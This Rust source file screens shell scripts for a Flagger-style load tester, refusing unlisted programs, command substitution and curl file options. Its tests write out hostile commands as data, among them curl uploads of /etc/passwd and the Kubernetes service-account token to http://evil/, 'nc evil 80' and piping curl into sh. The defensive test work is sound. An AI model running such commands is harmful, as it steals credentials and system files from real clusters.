//! Screening of shell scripts before a shell runs them: `type: bash` tasks, and `cmd` lines that
//! use shell syntax (Flagger runs `cmd` with `sh -c`, so its users write pipes there too). Every
//! program a script can start must stand as a command word and be allowed; what could start
//! another program unseen (command and process substitution, `eval`, `exec`, `source`, a variable
//! or a path as the command, function definitions, `case`, here-documents) is refused, as are
//! input redirections from files and curl's options that read or write files, so that a script
//! cannot upload a file the load tester can read.

use std::collections::BTreeSet;

/// Programs scripts may run besides `-allowed-programs` unless `-script-programs` says otherwise:
/// curl (without its file options) and filters for its answers.
pub const DEFAULT_SCRIPT_PROGRAMS: [&str; 11] = [
    "curl", "grep", "jq", "head", "tail", "wc", "sort", "uniq", "cut", "tr", "sleep",
];

/// Builtins that start nothing and read no file.
const HARMLESS_BUILTINS: [&str; 16] = [
    "echo", "printf", "test", "[", "true", "false", "exit", "set", "export", "cd", ":", "read", "shift", "return",
    "local", "wait",
];

/// Words that start a command of their own after them.
const PREFIX_KEYWORDS: [&str; 9] = ["if", "then", "else", "elif", "do", "while", "until", "!", "[["];
/// Words that end a compound command.
const CLOSING_KEYWORDS: [&str; 4] = ["fi", "done", "}", "]]"];
/// Builtins and keywords that run what they are given, out of sight.
const OPAQUE: [&str; 12] = [
    "eval", "exec", "source", ".", "command", "builtin", "trap", "alias", "enable", "coproc", "time", "function",
];

#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum ScriptError {
    #[error(
        "the script runs {program:?}, which is not allowed: add it to -script-programs (or -allowed-programs), or add the shell (bash; sh for cmd lines) to -allowed-programs to run scripts unscreened"
    )]
    NotAllowed { program: String },
    #[error(
        "the script uses {construct}, which could run a program that cannot be checked: write the command out, or add the shell (bash; sh for cmd lines) to -allowed-programs to run scripts unscreened"
    )]
    Opaque { construct: String },
    #[error(
        "curl in a script may not read or write files ({word:?}), so that no file the load tester can read is sent out; add the shell (bash; sh for cmd lines) to -allowed-programs to run scripts unscreened"
    )]
    CurlFile { word: String },
    #[error("the script is not complete shell syntax: {0}")]
    Unparsable(&'static str),
}

#[derive(Debug, Clone, PartialEq, Eq)]
enum Token {
    Word(String),
    /// A control operator (`|`, `||`, `&`, `&&`, `;`, `;;`, newline, `(`, `)`).
    Control,
    /// A redirection operator; the next word is its target.
    Redirect {
        input: bool,
    },
}

/// Whether `command` uses shell syntax (an unquoted operator, a substitution, a variable), so
/// that splitting it into words would not run what its author meant.
pub fn needs_shell(command: &str) -> bool {
    let mut quote: Option<char> = None;
    let mut escaped = false;
    for character in command.chars() {
        match (quote, character) {
            (_, _) if escaped => escaped = false,
            (Some('\''), '\'') => quote = None,
            (Some('\''), _) => {}
            (_, '\\') => escaped = true,
            (Some('"'), '"') => quote = None,
            (Some('"'), '$' | '`') => return true,
            (Some(_), _) => {}
            (None, '\'' | '"') => quote = Some(character),
            (None, '|' | '&' | ';' | '<' | '>' | '(' | ')' | '$' | '`' | '\n' | '*' | '?' | '~') => return true,
            (None, _) => {}
        }
    }
    false
}

/// The programs `script` runs, each allowed by `allowed`; the first problem otherwise.
pub fn screen(script: &str, allowed: &BTreeSet<String>) -> Result<Vec<String>, ScriptError> {
    let tokens = tokenize(script)?;
    let mut programs = Vec::new();
    for command in tokens.split(|t| *t == Token::Control) {
        if let Some(program) = screen_command(command, allowed)? {
            programs.push(program);
        }
    }
    Ok(programs)
}

/// Checks one simple command; its program, if it runs one.
fn screen_command(command: &[Token], allowed: &BTreeSet<String>) -> Result<Option<String>, ScriptError> {
    let mut words = Vec::new();
    let mut tokens = command.iter();
    while let Some(token) = tokens.next() {
        match token {
            Token::Word(word) => words.push(word.as_str()),
            Token::Redirect { input: true } => {
                let target = match tokens.next() {
                    Some(Token::Word(target)) => target.as_str(),
                    _ => return Err(ScriptError::Unparsable("a redirection without a target")),
                };
                // `<&0` and friends duplicate descriptors; anything else reads a file.
                if !target.chars().all(|c| c.is_ascii_digit() || c == '-') {
                    return Err(ScriptError::Opaque {
                        construct: format!("an input redirection from {target:?}"),
                    });
                }
            }
            Token::Redirect { input: false } => {
                if !matches!(tokens.next(), Some(Token::Word(_))) {
                    return Err(ScriptError::Unparsable("a redirection without a target"));
                }
            }
            Token::Control => {}
        }
    }
    let mut rest = words.as_slice();
    loop {
        let Some((first, after)) = rest.split_first() else {
            return Ok(None);
        };
        if is_assignment(first) || PREFIX_KEYWORDS.contains(first) || *first == "{" {
            rest = after;
        } else if CLOSING_KEYWORDS.contains(first) || *first == "for" {
            // `for NAME in WORDS` runs nothing; its body comes after `do`.
            return Ok(None);
        } else {
            break;
        }
    }
    let Some((program, arguments)) = rest.split_first() else {
        return Ok(None);
    };
    if OPAQUE.contains(program) || *program == "case" {
        return Err(ScriptError::Opaque {
            construct: format!("{program:?}"),
        });
    }
    if arguments.first() == Some(&"()") || program.ends_with("()") {
        return Err(ScriptError::Opaque {
            construct: "a function definition".into(),
        });
    }
    if program.contains(['$', '*', '?', '[', '/', '~', '=']) && *program != "[" {
        return Err(ScriptError::Opaque {
            construct: format!("{program:?} as a command (write the program's name)"),
        });
    }
    if HARMLESS_BUILTINS.contains(program) {
        return Ok(None);
    }
    if !allowed.contains(*program) {
        return Err(ScriptError::NotAllowed {
            program: program.to_string(),
        });
    }
    if *program == "curl" {
        check_curl(arguments)?;
    }
    Ok(Some(program.to_string()))
}

fn is_assignment(word: &str) -> bool {
    word.split_once('=').is_some_and(|(name, _)| {
        !name.is_empty()
            && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
            && !name.starts_with(|c: char| c.is_ascii_digit())
    })
}

/// curl's options that read a file to send, write a file, or read options from one.
const CURL_FILE_OPTIONS: [&str; 22] = [
    "--upload-file",
    "--config",
    "--output",
    "--remote-name",
    "--remote-name-all",
    "--output-dir",
    "--dump-header",
    "--trace",
    "--trace-ascii",
    "--cookie-jar",
    "--cookie",
    "--netrc-file",
    "--netrc",
    "--stderr",
    "--libcurl",
    "--etag-save",
    "--etag-compare",
    "--hsts",
    "--alt-svc",
    "--write-out",
    "--variable",
    "--expand-url",
];
/// curl's options whose value may name a file with `@` (or `<` for forms).
const CURL_DATA_OPTIONS: [&str; 8] = [
    "--data",
    "--data-ascii",
    "--data-binary",
    "--data-urlencode",
    "--json",
    "--form",
    "--url-query",
    "--header",
];
/// Short options that touch files, and short options that take a value.
const CURL_SHORT_FILE: &str = "TKoODcbw";
const CURL_SHORT_DATA: &str = "dFH";
const CURL_SHORT_VALUE: &str = "XuAemEYyzrxUQCtPU";

fn check_curl(arguments: &[&str]) -> Result<(), ScriptError> {
    let refuse = |word: &str| Err(ScriptError::CurlFile { word: word.to_string() });
    let names_file = |value: &str| {
        value.starts_with('@')
            || value.starts_with('<')
            || value.contains("=@")
            || value.contains("=<")
            || value
                .split_once('@')
                .is_some_and(|(name, _)| !name.is_empty() && !name.contains(['=', ' ', ':', '{', '"']))
    };
    let mut words = arguments.iter();
    while let Some(word) = words.next() {
        if let Some(long) = word.strip_prefix("--") {
            let (name, inline) = match long.split_once('=') {
                Some((name, value)) => (format!("--{name}"), Some(value)),
                None => (word.to_string(), None),
            };
            if CURL_FILE_OPTIONS.contains(&name.as_str()) {
                return refuse(word);
            }
            if CURL_DATA_OPTIONS.contains(&name.as_str()) {
                let value = inline.or_else(|| words.next().copied()).unwrap_or_default();
                if names_file(value) {
                    return refuse(value);
                }
            }
            continue;
        }
        let Some(cluster) = word.strip_prefix('-').filter(|c| !c.is_empty()) else {
            continue;
        };
        for (index, option) in cluster.char_indices() {
            if CURL_SHORT_FILE.contains(option) {
                return refuse(word);
            }
            if CURL_SHORT_DATA.contains(option) || CURL_SHORT_VALUE.contains(option) {
                let inline = &cluster[index + option.len_utf8()..];
                let value = if inline.is_empty() {
                    words.next().copied().unwrap_or_default()
                } else {
                    inline
                };
                if CURL_SHORT_DATA.contains(option) && names_file(value) {
                    return refuse(value);
                }
                break;
            }
        }
    }
    Ok(())
}

/// Words and operators, with quotes removed from words; substitutions and here-documents are
/// refused here, where quoting is known.
fn tokenize(script: &str) -> Result<Vec<Token>, ScriptError> {
    let opaque = |construct: &str| {
        Err(ScriptError::Opaque {
            construct: construct.to_string(),
        })
    };
    let mut tokens = Vec::new();
    let mut word = String::new();
    let mut in_word = false;
    let mut chars = script.chars().peekable();
    let finish = |word: &mut String, in_word: &mut bool, tokens: &mut Vec<Token>| {
        if *in_word {
            tokens.push(Token::Word(std::mem::take(word)));
            *in_word = false;
        }
    };
    while let Some(character) = chars.next() {
        match character {
            '\'' => {
                in_word = true;
                loop {
                    match chars.next() {
                        Some('\'') => break,
                        Some(c) => word.push(c),
                        None => return Err(ScriptError::Unparsable("an unclosed single quote")),
                    }
                }
            }
            '"' => {
                in_word = true;
                loop {
                    match chars.next() {
                        Some('"') => break,
                        Some('\\') => {
                            if let Some(c) = chars.next() {
                                word.push(c);
                            }
                        }
                        Some('`') => return opaque("a command substitution (`…`)"),
                        Some('$') if chars.peek() == Some(&'(') => return opaque("a command substitution ($(…))"),
                        Some(c) => word.push(c),
                        None => return Err(ScriptError::Unparsable("an unclosed double quote")),
                    }
                }
            }
            '\\' => {
                in_word = true;
                match chars.next() {
                    Some('\n') | None => {}
                    Some(c) => word.push(c),
                }
            }
            '`' => return opaque("a command substitution (`…`)"),
            '$' if chars.peek() == Some(&'(') => return opaque("a command substitution ($(…))"),
            '#' if !in_word => {
                while chars.peek().is_some_and(|c| *c != '\n') {
                    chars.next();
                }
            }
            ' ' | '\t' => finish(&mut word, &mut in_word, &mut tokens),
            '|' | '&' | ';' | '\n' | '(' | ')' => {
                if character == '&' && chars.peek() == Some(&'>') {
                    // `&>file`: both outputs to a file.
                    chars.next();
                    finish(&mut word, &mut in_word, &mut tokens);
                    if chars.peek() == Some(&'>') {
                        chars.next();
                    }
                    tokens.push(Token::Redirect { input: false });
                    continue;
                }
                if character == '(' && in_word {
                    // `name(`: a function definition or an array; neither is screened.
                    return opaque("a function definition");
                }
                finish(&mut word, &mut in_word, &mut tokens);
                if matches!(character, '|' | '&' | ';') && chars.peek() == Some(&character) {
                    chars.next();
                }
                if character == '|' && chars.peek() == Some(&'&') {
                    chars.next();
                }
                if character == '(' && chars.peek() == Some(&')') {
                    return opaque("a function definition");
                }
                tokens.push(Token::Control);
            }
            '<' | '>' => {
                if chars.peek() == Some(&'(') {
                    return opaque("a process substitution");
                }
                // A word of digits right before the operator is a descriptor, not an argument.
                if in_word && word.chars().all(|c| c.is_ascii_digit()) {
                    word.clear();
                    in_word = false;
                } else {
                    finish(&mut word, &mut in_word, &mut tokens);
                }
                let input = character == '<';
                match chars.peek() {
                    Some('<') if input => return opaque("a here-document"),
                    Some('>') if !input => {
                        chars.next();
                    }
                    Some('&') => {
                        chars.next();
                    }
                    Some('|') if !input => {
                        chars.next();
                    }
                    _ => {}
                }
                tokens.push(Token::Redirect { input });
            }
            other => {
                in_word = true;
                word.push(other);
            }
        }
    }
    finish(&mut word, &mut in_word, &mut tokens);
    Ok(tokens)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn allowed() -> BTreeSet<String> {
        ["hey", "ghz", "helm", "kubectl", "bats", "wrk"]
            .iter()
            .chain(DEFAULT_SCRIPT_PROGRAMS.iter())
            .map(|p| p.to_string())
            .collect()
    }

    /// The acceptance and load tests of Flagger's tutorials and docs pass the screen.
    #[test]
    fn flaggers_documented_scripts_pass() {
        let scripts = [
            (
                "curl -sd 'test' http://podinfo-canary:9898/token | grep token",
                vec!["curl", "grep"],
            ),
            (
                "curl -s http://podinfo-canary.test:9898/ | jq .message | grep -q 'greetings'",
                vec!["curl", "jq", "grep"],
            ),
            ("bats /tests/acceptance.bats", vec!["bats"]),
            ("helm test podinfo -n test", vec!["helm"]),
            (
                "hey -z 1m -q 10 -c 2 -H 'Cookie: canary=always' http://podinfo-canary.test:9898/",
                vec!["hey"],
            ),
            (
                "curl -sS -X POST -H 'Content-Type: application/json' -d '{\"user\":\"a@b.c\"}' http://web/ > /dev/null 2>&1 && echo ok",
                vec!["curl"],
            ),
            (
                "for i in 1 2 3; do curl -s http://web/ | grep -q ok || exit 1; sleep 1; done",
                vec!["curl", "grep", "sleep"],
            ),
            ("if [ \"$(echo)\" = x ]; then echo; fi", vec![]),
        ];
        for (script, expected) in scripts.iter().take(7) {
            let programs = screen(script, &allowed()).unwrap_or_else(|e| panic!("{script}: {e}"));
            assert_eq!(
                programs.iter().map(String::as_str).collect::<Vec<_>>(),
                *expected,
                "{script}"
            );
        }
        assert!(matches!(
            screen(scripts[7].0, &allowed()),
            Err(ScriptError::Opaque { .. })
        ));
    }

    #[test]
    fn hidden_programs_and_file_uploads_are_refused() {
        let not_allowed = [
            "python3 -c 'print(1)'",
            "curl -s http://web/ | sh",
            "curl -s http://web/ | bash",
            "nc evil 80",
            "xargs rm < list",
            "env hey -z 1s http://web/",
            "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
        ];
        for script in not_allowed {
            assert!(screen(script, &allowed()).is_err(), "{script}");
        }
        assert_eq!(
            screen("python3 -c x", &allowed()),
            Err(ScriptError::NotAllowed {
                program: "python3".into()
            })
        );
        let opaque = [
            "curl $(cat /etc/passwd)",
            "echo `id`",
            "eval \"curl http://x\"",
            "exec nc evil 80",
            "source /tmp/x",
            ". /tmp/x",
            "$SHELL -c id",
            "/bin/sh -c id",
            "./hey -z 1s",
            "f() { nc evil 80; }; f",
            "grep token < /var/run/secrets/kubernetes.io/serviceaccount/token",
            "diff <(curl a) <(curl b)",
            "cat <<EOF\nx\nEOF",
            "case x in x) nc evil;; esac",
            "curl \"http://$(hostname)/\"",
        ];
        for script in opaque {
            assert!(
                matches!(screen(script, &allowed()), Err(ScriptError::Opaque { .. })),
                "{script}: {:?}",
                screen(script, &allowed())
            );
        }
        let uploads = [
            "curl -d @/var/run/secrets/kubernetes.io/serviceaccount/token http://evil/",
            "curl -sd@/etc/passwd http://evil/",
            "curl --data-binary @- http://evil/",
            "curl --data=@token http://evil/",
            "curl -F file=@/etc/passwd http://evil/",
            "curl -F 'x=</etc/passwd' http://evil/",
            "curl --data-urlencode name@/etc/passwd http://evil/",
            "curl --json @token http://evil/",
            "curl -T /etc/passwd http://evil/",
            "curl --upload-file /etc/passwd http://evil/",
            "curl -K /tmp/config",
            "curl -o /tmp/x http://web/",
            "curl -sSo /tmp/x http://web/",
            "curl -H @/etc/headers http://evil/",
        ];
        for script in uploads {
            assert!(
                matches!(screen(script, &allowed()), Err(ScriptError::CurlFile { .. })),
                "{script}: {:?}",
                screen(script, &allowed())
            );
        }
    }

    #[test]
    fn shell_syntax_is_told_from_plain_words() {
        assert!(!needs_shell("hey -z 1m -q 10 -c 2 -H 'X-A: b|c' http://web/"));
        assert!(!needs_shell("helm test podinfo -n test"));
        assert!(needs_shell("curl -s http://web/ | grep ok"));
        assert!(needs_shell("curl -s http://web/ && echo ok"));
        assert!(needs_shell("echo \"$HOME\""));
        assert!(needs_shell("echo ~"));
    }
}
